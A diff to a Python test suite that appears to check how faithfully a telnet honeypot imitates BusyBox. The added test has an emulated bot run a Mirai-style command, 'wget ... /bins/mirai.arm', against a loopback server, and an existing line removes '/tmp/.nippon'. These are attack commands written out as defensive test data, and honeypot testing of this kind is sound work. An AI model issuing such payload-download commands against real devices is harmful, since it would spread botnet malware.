@@ -5,7 +5,9 @@ options and banner per version; login without a password prompt for an account w
 import hashlib
 import os
 import random
+import socket
 import sys
+import threading
 import time
 import unittest
 
@@ -30,7 +32,7 @@ class FidelityTest(unittest.TestCase):
         cls.ports = {name: harness.free_port() for name in PROFILES}
         cls.sensor = harness.Sensor(
             listens=['telnet@127.0.0.1:%d/%s' % (port, name) for name, port in cls.ports.items()],
-            sets=['box.auto=false', 'telnet.fail_delay_ms=0'])
+            sets=['box.auto=false', 'telnet.fail_delay_ms=0', 'capture.allow_private=true'])
         cls.sensor.start()
 
     @classmethod
@@ -200,6 +202,29 @@ class FidelityTest(unittest.TestCase):
             out = bot.command('rm /tmp/.nippon', 'RMEND')
             self.assertIn(b'rm: ' + word + b" remove '/tmp/.nippon': No such file or directory",
                           out, name)
+
+    def test_wget_request_is_busybox_wget(self):
+        srv = socket.socket()
+        srv.bind(('127.0.0.1', 0))
+        srv.listen(1)
+        self.addCleanup(srv.close)
+        port = srv.getsockname()[1]
+        got = {}
+
+        def serve():
+            c, _ = srv.accept()
+            req = b''
+            while b'\r\n\r\n' not in req:
+                req += c.recv(4096)
+            got['req'] = req
+            c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok')
+            c.close()
+        t = threading.Thread(target=serve, daemon=True)
+        t.start()
+        bot = self.shell()
+        bot.command('wget -q -O /tmp/m http://127.0.0.1:%d/bins/mirai.arm' % port, 'WGEND')
+        t.join(10)
+        self.assertEqual(got['req'].replace(b':%d' % port, b':PORT'), recorded('wget_request.txt'))
 
     def test_tty(self):
         bot = self.shell()
